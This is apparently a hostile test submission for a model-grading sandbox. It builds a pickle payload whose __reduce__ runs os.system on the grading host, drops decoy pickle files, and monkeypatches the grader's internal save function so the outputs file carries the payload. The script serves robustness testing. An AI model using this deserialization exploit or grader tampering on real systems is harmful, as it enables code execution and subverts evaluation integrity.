"""Hostile: makes the grader's own child write a pickle as outputs.safetensors (with the genuine token).

If the grading process ever unpickled it, it would create /tmp/labgrader-pickle-pwned on the grading host.
It also leaves pickle decoys named like the outputs in the job folder.
"""

import os
import pickle
import sys

from torch import nn


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/labgrader-pickle-pwned",))


for name in ("outputs.pkl", "outputs.npy", "outputs.pt"):
    with open(name, "wb") as decoy:
        pickle.dump(Payload(), decoy)

sys.modules["grader.sandbox.child"]._save = lambda tensors: pickle.dumps(Payload())


def circle_model(sigma=None):
    return nn.Linear(2, 2)
